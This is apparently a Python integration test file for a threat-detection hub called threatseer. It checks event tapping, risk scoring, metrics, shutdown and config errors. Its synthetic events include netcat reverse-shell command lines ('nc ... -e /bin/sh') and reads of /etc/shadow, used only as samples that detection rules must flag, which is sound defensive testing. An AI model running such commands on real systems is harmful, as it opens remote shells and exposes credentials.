"""The real ``threatseer hub`` / ``tap`` / ``replay`` / ``status`` processes end to end."""

from __future__ import annotations

import json
import subprocess
import threading
import time
import urllib.request
from pathlib import Path
from typing import Any

import zmq
from hub_helpers import (
    HubProcess,
    Sender,
    Subscriber,
    connect_event,
    endpoint,
    exec_event,
    free_port,
    open_event,
    wait_connected,
    write_yaml,
)

from threatseer.common import ecs

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_BUNDLE = ROOT / "rules" / "default"


def process_config(tmp_path: Path, **extra: Any) -> tuple[Path, dict[str, Any]]:
    cfg: dict[str, Any] = {
        "ingest": {"endpoint": endpoint()},
        "publish": {"endpoint": endpoint()},
        "metrics": {"listen": f"127.0.0.1:{free_port()}"},
        "actions": {"toss_below": -1000, "alert_at": 100},
        "bundle": str(DEFAULT_BUNDLE),
        "admin": {"allow_unsigned": True},
        "state_dir": str(tmp_path / "state"),
        "plaintext": True,
        **extra,
    }
    return write_yaml(tmp_path / "hub.yaml", cfg), cfg


def mixed_round(marker: str) -> list[dict[str, Any]]:
    """ls (0, event.process.exec), nc -e (alert.process.exec), a connect (event.network.connect),
    a read of /etc/shadow (alert.file.open with the default bundle)."""
    return [
        exec_event("/usr/bin/ls", ["ls", marker]),
        exec_event("/usr/bin/nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh", marker]),
        connect_event("10.9.9.9", 8080, **{"process.working_directory": f"/{marker}"}),
        open_event("/etc/shadow", ["read"], **{"process.working_directory": f"/{marker}"}),
    ]


class Tap:
    def __init__(self, cmd: list[str], *args: str) -> None:
        self.proc = subprocess.Popen([*cmd, "tap", *args], stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        self.lines: list[str] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        for line in self.proc.stdout:  # type: ignore[union-attr]
            self.lines.append(line)

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self._reader.join(5)


def test_tap_filters_by_topic_and_min_score(tmp_path, threatseer_cmd) -> None:
    config, cfg = process_config(tmp_path)
    hub = HubProcess(threatseer_cmd, config)
    pub = cfg["publish"]["endpoint"]
    taps = {
        "alerts": Tap(threatseer_cmd, "--endpoint", pub, "--topic", "alert.", "--json"),
        "score40": Tap(threatseer_cmd, "--endpoint", pub, "--min-score", "40", "--json"),
        "network": Tap(threatseer_cmd, "--endpoint", pub, "--topic", "event.network.",
                       "--topic", "alert.file.", "--json"),
        "text": Tap(threatseer_cmd, "--endpoint", pub, "--topic", "alert.process."),
    }
    ctx = zmq.Context()
    try:
        sender = Sender(ctx, cfg["ingest"]["endpoint"], "tap-sensor")
        deadline = time.monotonic() + 30
        while not all(t.lines for t in taps.values()) and time.monotonic() < deadline:
            sender.send(mixed_round("warmup"))
            time.sleep(0.3)
        assert all(t.lines for t in taps.values()), {k: t.lines for k, t in taps.items()}
        for i in range(3):
            sender.send(mixed_round(f"final{i}"))
        time.sleep(1.5)
    finally:
        for t in taps.values():
            t.stop()
        rc, _out, err = hub.stop()
        ctx.destroy(linger=0)
    assert rc == 0, err

    def docs(name: str) -> list[dict[str, Any]]:
        return [ecs.flatten(json.loads(line)) for line in taps[name].lines]

    def final(evs: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [e for e in evs if "final" in json.dumps(e)]

    alerts = docs("alerts")
    assert all(e["event.kind"] == "alert" for e in alerts)
    # nc -e (risky process + reverse shell rule) and the shadow read (static + dynamic rule)
    assert sorted(e["event.action"] for e in final(alerts)) == ["exec"] * 3 + ["open"] * 3
    assert all(e["event.risk_score"] >= 100 for e in alerts)
    nc = [e for e in alerts if e["event.action"] == "exec"][-1]
    assert {i["rule"] for i in nc["threatseer.indicators"]} >= {
        "risky_process:nc", "reverse_shell_netcat_exec"}
    scored = docs("score40")
    assert all(e["event.risk_score"] >= 40 for e in scored)
    assert sorted(e["event.action"] for e in final(scored)) == ["exec"] * 3 + ["open"] * 3
    net = docs("network")
    assert {e["event.action"] for e in net} == {"connect", "open"}
    assert len(final(net)) == 6
    text = taps["text"].lines
    assert all("alert.process.exec" in line and "/usr/bin/nc" in line for line in text)
    assert sum("final" in line for line in text) == 3


def test_metrics_status_and_graceful_stop_emit_everything(tmp_path, threatseer_cmd) -> None:
    out_file = tmp_path / "events.jsonl"
    config, cfg = process_config(
        tmp_path, ingest={"endpoint": endpoint(), "rcv_hwm": 20},
        # "block": this test is about the hub losing nothing on stop, not about overflow
        outputs=[{"type": "file", "name": "archive", "overflow": "block",
                  "options": {"path": str(out_file), "max_bytes": 1 << 30}}])
    hub = HubProcess(threatseer_cmd, config)
    ctx = zmq.Context()
    sub = Subscriber(ctx, cfg["publish"]["endpoint"])
    try:
        probe = Sender(ctx, cfg["ingest"]["endpoint"], "probe")
        wait_connected(probe, sub)
        # a second context whose term() returns only when every batch has left this process
        sctx = zmq.Context()
        sender = Sender(sctx, cfg["ingest"]["endpoint"], "bulk")
        n_batches, per = 60, 500
        for b in range(n_batches):
            sender.send([exec_event("/usr/bin/true", ["true", str(b), str(k)])
                         for k in range(per)])
        # The sender stays connected while the hub stops: a ROUTER discards what a peer that
        # went away had queued (a real sensor keeps such batches in its spool until acked).
        got_before_stop = len(sub.drain(0.0))
        rc, _out, err = hub.stop()
        received = got_before_stop + len(sub.drain(1.0))
        sender.close()
        sctx.term()
    finally:
        hub.kill()
        ctx.destroy(linger=0)
    assert rc == 0, err
    total = n_batches * per
    assert received >= total  # plus the probes
    lines = [json.loads(line) for line in out_file.read_text().splitlines()]
    bulk = [d for d in lines if d["agent"]["id"] == "bulk"]
    assert len(bulk) == total
    assert len({(d["threatseer"]["batch"]["seq"], d["process"]["args"][2]) for d in bulk}) == total


def test_metrics_endpoint_and_status_command(tmp_path, threatseer_cmd) -> None:
    config, cfg = process_config(tmp_path)
    hub = HubProcess(threatseer_cmd, config)
    ctx = zmq.Context()
    try:
        sub = Subscriber(ctx, cfg["publish"]["endpoint"])
        sender = Sender(ctx, cfg["ingest"]["endpoint"], "m1")
        wait_connected(sender, sub)
        before = sender.seq
        for i in range(10):
            sender.send(mixed_round(f"m{i}"))
        sender.send_raw([b"\x01", b"\x02", b"\x03"])
        assert len(sub.collect(40)) == 40
        url = f"http://{cfg['metrics']['listen']}/metrics"
        body = urllib.request.urlopen(url, timeout=10).read().decode()
        time.sleep(2.5)  # the status file is rewritten every 2 s
        status = subprocess.run([*threatseer_cmd, "status", "-c", str(config), "--json"],
                                capture_output=True, text=True, timeout=30)
        text = subprocess.run([*threatseer_cmd, "status", "-c", str(config)],
                              capture_output=True, text=True, timeout=30)
    finally:
        hub.stop()
        ctx.destroy(linger=0)
    metrics = {}
    for line in body.splitlines():
        if line and not line.startswith("#"):
            name, _, value = line.rpartition(" ")
            metrics[name] = float(value)
    assert metrics['threatseer_hub_events_in_total{sensor="m1"}'] == 40 + before
    assert metrics['threatseer_hub_events_out_total{sensor="m1"}'] == 40 + before
    assert metrics['threatseer_hub_batches_total{sensor="m1"}'] == 10 + before
    assert metrics['threatseer_hub_actions_total{action="alert"}'] >= 10
    assert any(k.startswith("threatseer_hub_bad_input_total") and 'reason="frames"' in k
               for k in metrics)
    for engine in ("static", "dynamic", "profile"):
        assert metrics[f'threatseer_hub_engine_seconds_total{{engine="{engine}"}}'] > 0
    assert any(k.startswith("threatseer_hub_bundle_info") and "threatseer-default" in k
               for k in metrics)
    assert status.returncode == 0, status.stderr
    st = json.loads(status.stdout)
    assert st["sensors"]["m1"]["events_in"] == 40 + before
    assert st["bundle"]["name"] == "threatseer-default" and st["bundle"]["rules"] > 0
    assert "m1" in text.stdout and "threatseer-default" in text.stdout


def test_bad_config_exits_2_with_one_line_naming_file_and_key(tmp_path, threatseer_cmd) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("ingest:\n  endpoint: tcp://127.0.0.1:1\n  rcv_hwm: lots\n")
    proc = subprocess.run([*threatseer_cmd, "hub", "-c", str(bad)], capture_output=True,
                          text=True, timeout=30)
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1
    assert f"{bad}:3" in lines[0] and "ingest.rcv_hwm" in lines[0]
    for text, where in (("actions:\n  toss_below: 10\n  alert_at: 5\n", ":3: actions.alert_at"),
                        ("state_dir: /tmp\nprofiles:\n  nope: 1\n", ":3: profiles.nope")):
        bad.write_text(text)
        proc = subprocess.run([*threatseer_cmd, "hub", "-c", str(bad)], capture_output=True,
                              text=True, timeout=30)
        assert proc.returncode == 2 and where in proc.stderr, proc.stderr


def test_replay_scores_a_jsonl_file_with_a_bundle(tmp_path, threatseer_cmd) -> None:
    events = [exec_event("/usr/bin/ls", ["ls"]),
              exec_event("/usr/bin/nc", ["nc", "1.2.3.4", "9", "-e", "/bin/sh"]),
              {**open_event("/etc/shadow", ["write"]), "event.action": "write-open"}]
    path = tmp_path / "recorded.jsonl"
    lines = [json.dumps(ecs.nest(e)) for e in events]
    lines.insert(1, "{not json")
    lines.append(json.dumps({"event": {"action": "exec"}}))
    path.write_text("\n".join(lines) + "\n")
    config = write_yaml(tmp_path / "hub.yaml", {"actions": {"toss_below": 1, "alert_at": 80}})
    proc = subprocess.run([*threatseer_cmd, "replay", str(path), "--bundle", str(DEFAULT_BUNDLE),
                           "-c", str(config)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    out = [ecs.flatten(json.loads(line)) for line in proc.stdout.splitlines()]
    # ls scores 0 and is tossed (toss_below 1); nc and the shadow write are alerts
    assert [e["process.executable"] for e in out] == ["/usr/bin/nc", "/usr/bin/cat"]
    assert all(e["event.kind"] == "alert" for e in out)
    assert out[1]["event.risk_score"] >= 80
    assert f"{path}:2: not JSON" in proc.stderr
    assert f"{path}:5: missing" in proc.stderr
    assert "1 tossed, 2 bad" in proc.stderr
